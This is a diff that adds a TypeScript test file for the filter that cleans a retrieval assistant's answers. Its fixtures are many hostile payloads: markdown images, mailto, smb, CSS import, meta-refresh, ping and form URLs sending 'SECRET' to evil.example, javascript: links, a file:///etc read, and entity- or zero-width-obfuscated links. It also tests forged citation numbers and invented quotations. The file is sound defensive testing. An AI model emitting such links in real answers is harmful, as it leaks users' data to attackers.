@@ -1,0 +1,283 @@
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+
+import { cleanText } from "../../src/answers/untrusted/answer-filter.ts";
+import { toPlainMarkdown } from "../../src/text/untrusted/plain-markdown.ts";
+import { renderAll } from "../support/render-markdown.ts";
+import { collect, createHit, createScriptedModel, faults, slicesOf } from "./support.ts";
+
+const known = "https://known.example/a";
+const source = `Keys are rotated every 90 days by the rotate command. See ${known} for more. Old keys stay valid for 24 hours.`;
+const place = { uri: "keys.md", title: "keys", headings: [], start: 0, end: source.length };
+const hits = [createHit(1, "keys", 0, 1, { text: source, snippet: source, source: place })];
+
+async function answerOf(text: string, pieces: readonly string[] = [text]) {
+  return collect({ model: createScriptedModel(pieces).model, hits, documents: slicesOf(() => source) });
+}
+
+/** Every text that an answer carries from its model. */
+const textsOf = ({ text, withheld, removedQuotes }: Awaited<ReturnType<typeof answerOf>>["answer"]) => [
+  text,
+  ...withheld.map((sentence) => sentence.text),
+  ...removedQuotes,
+];
+
+/** Whatever leads somewhere that no source names, or loads, sends or restyles something. */
+function leaksOf(text: string): readonly string[] {
+  return renderAll(text).flatMap(({ addresses, elements }) => [
+    ...addresses.filter((address) => address !== known),
+    ...elements,
+  ]);
+}
+
+/** Numbers in brackets that a reader sees, in any brackets that look square. */
+const numbersIn = (text: string): readonly string[] =>
+  renderAll(text).flatMap(({ prose }) =>
+    prose.flatMap((part) => {
+      const seen = part.replaceAll(/\p{Cf}/gu, "").replaceAll(/\s+/gu, " ");
+      return seen.match(/[[【［〔❲] ?(?:\^? ?[\p{Nd}\p{No}]{1,3} ?,? ?)+[\]】］〕❳]/gu) ?? [];
+    }),
+  );
+
+describe("an address of a model", () => {
+  it.each([
+    "https://known.example/((SECRET))",
+    `${known}/((SECRET))`,
+    `${known}((SECRET))`,
+    "<https://evil.example/SECRET>",
+    "<mailto:a@evil.example?body=SECRET>",
+    "<smb://evil.example/SECRET>",
+    "_www.evil.example/SECRET_",
+    "**www.evil.example/SECRET**",
+    "<style>@import 'https://evil.example/SECRET';</style>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/SECRET'>",
+    '<img src="file:///etc/SECRET">',
+    "<a href='https://evil.example' ping='https://evil.example/SECRET'>x</a>",
+    "<form action='https://evil.example'><button>SECRET</button></form>",
+    `<img ${"x".repeat(3000)} src="https://evil.example/SECRET">`,
+    "[x](ht&#116;ps&colon;//evil.example/SECRET)",
+    "[x](&#x68;ttps:&#x2f;/evil.example/SECRET)",
+    "&lt;img src=https://evil.example/SECRET&gt;",
+    "\\<img src=//evil.example/SECRET>",
+    `${known}，SECRET`,
+    `${known}。SECRET`,
+    `${known}？q=SECRET`,
+    "[x][r]\n\n[r]: https://evil.example/SECRET",
+    "[r]\n\n[r]:\nhttps://evil.example/SECRET",
+    "[x](<https://evil.example/SECRET> 'title')",
+    "![x](https://evil.example/SECRET)",
+    `![x](${known})`,
+    "[x](//evil.example/SECRET)",
+    "[x](\\\\evil.example/SECRET)",
+    "[x](javascript:alert(1))",
+    "[x](/logout?SECRET)",
+    "SECRET@evil.example",
+    "mailto:SECRET@evil.example",
+    "secret.evil.com/SECRET",
+    "secret.evil.com",
+    "//evil.example/SECRET",
+    "- ```\n  <img src=https://evil.example/SECRET>\n<img src=https://evil.example/SECRET>",
+    "- a\n  ```\n<img src=//evil.example/SECRET>\n  ```",
+    "a ` b\nc `<img src=//evil.example/SECRET>` d",
+    "| a | b |\n|---|---|\n| `x | <img src=//evil.example/SECRET>` |",
+    "<<b>img src=//evil.example/SECRET>",
+    "<x-a style=x onclick=y>SECRET</x-a>",
+    "[![x](https://evil.example/SECRET)](https://evil.example/SECRET)",
+    "htt\u200Bps://evil.example/SECRET and ht[9]tps://evil.example/SECRET",
+    "    ```\n<img src=//evil.example/SECRET>\n    ```",
+    "~~~\nx\n~~~\n<svg onload=x>",
+  ])("leads nowhere in what renderers show: %s [L12]", async (hostile) => {
+    for (const text of [
+      `Keys are rotated every 90 days [1]. See ${hostile}`,
+      `${hostile}\n\nKeys are rotated every 90 days [1].`,
+    ]) {
+      for (const pieces of [[text], text.split("")]) {
+        const { answer } = await answerOf(text, pieces);
+        for (const said of textsOf(answer)) expect(leaksOf(said)).toEqual([]);
+      }
+    }
+    expect(leaksOf(cleanText(hostile, new Set([known])))).toEqual([]);
+  });
+
+  it("stays where a source has it, exactly [L12]", async () => {
+    for (const text of [
+      `Keys are rotated every 90 days, see ${known} [1].`,
+      `Keys are rotated every 90 days, see [there](${known}) [1].`,
+      `Keys are rotated every 90 days (${known}) [1].`,
+    ]) {
+      const { answer } = await answerOf(text);
+      expect(answer.text).toBe(text);
+      expect(
+        renderAll(answer.text)
+          .map(({ addresses }) => addresses)
+          .slice(1, 3),
+      ).toEqual([[known], [known]]);
+      expect(answer.removedAddresses).toEqual([]);
+    }
+  });
+});
+
+describe("a number in brackets", () => {
+  it.each([
+    "\\[9\\]",
+    "&#91;9&#93;",
+    "&lbrack;9]",
+    "[&#57;]",
+    "[<b>9</b>]",
+    "[**9**]",
+    "**[**9**]**",
+    "[\u200B9\u200B]",
+    "[\u00A09\u00A0]",
+    "[9\u00AD]",
+    "[9\u2060]",
+    "[ 9\n]",
+    "&amp;#91;9&amp;#93;",
+    "[&#57<b></b>;]",
+    "[`9`]",
+    "[~~9~~]",
+    "[<!-- x -->9]",
+    "【9】",
+    "［９］",
+    "[⁹]",
+    "[[9]]",
+    "[9][9]",
+    "[9]: x",
+    "[^9]\n\n[^9]: y",
+    "[9](https://evil.example)",
+    "\\\\[9]",
+    "`x` [9] `y",
+    "a ` b\nc `[9]` d",
+    "| a | b |\n|---|---|\n| `x | [9]` |",
+    "- ```\n  a\n[9]",
+    "<b>\n`[9]`\n</b>",
+    "&[1]#91;9]",
+    "[[1]9]",
+  ])("is a checked citation in what renderers show, or is not there: %s [L2 L12]", async (hostile) => {
+    for (const text of [
+      `Keys are rotated every 90 days [1]. Whales sleep ${hostile} here`,
+      `${hostile}\n\nKeys are rotated every 90 days [1].`,
+    ]) {
+      for (const pieces of [[text], text.split("")]) {
+        const { answer, events } = await answerOf(text, pieces);
+        expect(numbersIn(answer.text).filter((number) => number !== "[1]")).toEqual([]);
+        expect(faults({ answer, events }).filter((fault) => !fault.endsWith("what the document says"))).toEqual([]);
+      }
+    }
+  });
+});
+
+describe("words that no source has", () => {
+  const altered = "Keys are rotated every 70 weeks by hand";
+  const styles: readonly (readonly [string, string])[] = [
+    ["“", "”"],
+    ["„", "“"],
+    ["«", "»"],
+    ["»", "«"],
+    ["「", "」"],
+    ["『", "』"],
+    ["‘", "’"],
+    ["'", "'"],
+    ['"', '"'],
+    ["‹", "›"],
+    ["<q>", "</q>"],
+    ["&quot;", "&quot;"],
+    ["&ldquo;", "&rdquo;"],
+    ['\\"', '\\"'],
+    ["&#34;", "&#34;"],
+    ["＂", "＂"],
+  ];
+  const shapes: readonly ((quoted: (words: string) => string) => string)[] = [
+    (quoted) => `The page says ${quoted(altered)} [1].`,
+    (quoted) => `The page says ${quoted(altered)}. That is all [1].`,
+    (quoted) => `The page says ${quoted(altered.replace(" every", "\nevery"))} [1].`,
+    (quoted) => `According to keys.md, ${quoted(altered)}.`,
+    (quoted) => `The page says ${quoted(`${altered} ${"and so on ".repeat(150)}end`)} [1].`,
+    (quoted) => `An inch is 5" and “so on. The page says ${quoted(altered)} [1].`,
+    (quoted) => `- It says ${quoted(altered)} [1]\n- It doesn't`,
+  ];
+
+  it.each(styles)("stand between no quotation marks: %s %s [L2]", async (opening, closing) => {
+    for (const shape of shapes) {
+      const text = shape((words) => opening + words + closing);
+      for (const pieces of [[text], text.split("")]) {
+        const { answer } = await answerOf(text, pieces);
+        for (const { prose } of renderAll(answer.text)) {
+          const seen = prose.join("\n").replaceAll(/\s+/gu, " ");
+          expect(seen).not.toMatch(/["“”„‟«»‹›「」『』‘’'＂] ?Keys are rotated every 70/u);
+        }
+        expect(answer.citations).toEqual([]);
+        expect(answer.text).toContain("70 weeks by hand");
+      }
+    }
+  });
+
+  it("stand in no block quote [L2]", async () => {
+    for (const text of [
+      `The page says [1]:\n\n> ${altered}\n\nSo it is.`,
+      `> ${altered} [1]`,
+      `> Keys are rotated every\n> 70 weeks by hand\n\nThat is all [1].`,
+    ]) {
+      const { answer } = await answerOf(text);
+      expect(answer.text).not.toMatch(/^\s*>/mu);
+      expect(answer.text).toMatch(/70 weeks by hand/u);
+    }
+  });
+
+  it.each(styles)("and those that it has keep theirs: %s %s [L2]", async (opening, closing) => {
+    const words = "Keys are rotated every 90 days";
+    const { answer } = await answerOf(`The page says ${opening}${words}${closing} [1].`);
+    expect(answer.text).toBe(toPlainMarkdown(`The page says ${opening}${words}${closing} [1].`));
+    expect(answer.citations).toHaveLength(1);
+  });
+});
+
+describe("whatever a model writes", () => {
+  const part = fc.constantFrom(
+    ..."[ ] ( ) ! < > : / // https:// http: mailto: www. evil.example/x evil.com a@b.com \\ ` `` ``` ~~~ ' \" “ ” « » & &# ; &#91; &lt; &amp; * _ ~ | 9 1 [1] [9] ]( ]: <b> <img <a \uFF0C \u200B \u00AD".split(
+      " ",
+    ),
+    known,
+    " ",
+    "\n",
+    "\n\n",
+    "\n- ",
+    "\n  ",
+    "\n    ",
+    "\n> ",
+    "1. ",
+    "src=",
+    "href=",
+    "Keys are rotated ",
+    "nonsense ",
+    ".",
+    ". ",
+    "<!--",
+    "-->",
+    "<q>",
+    "|\n|---|\n| ",
+  );
+
+  it("leads nowhere and cites nothing unchecked, however it arrives [L2 L12]", async () => {
+    await fc.assert(
+      fc.asyncProperty(fc.array(part, { maxLength: 24 }), fc.boolean(), async (parts, isWhole) => {
+        const text = parts.join("");
+        const { answer, events } = await answerOf(text, isWhole ? [text] : text.split(""));
+        expect(faults({ answer, events }).filter((fault) => !fault.endsWith("what the document says"))).toEqual([]);
+        for (const said of textsOf(answer)) expect(leaksOf(said)).toEqual([]);
+        const markers = new Set(answer.citations.map(({ marker }) => marker));
+        expect(numbersIn(answer.text).filter((number) => !markers.has(number))).toEqual([]);
+      }),
+      { numRuns: Number(process.env["IBID_RUNS"] ?? 300) },
+    );
+  });
+
+  it("is plain once it is plain [L12]", () => {
+    fc.assert(
+      fc.property(fc.array(part, { maxLength: 30 }), (parts) => {
+        const once = cleanText(parts.join(""), new Set([known]));
+        expect(cleanText(once, new Set([known]))).toBe(once);
+      }),
+      { numRuns: 1000 },
+    );
+  });
+});
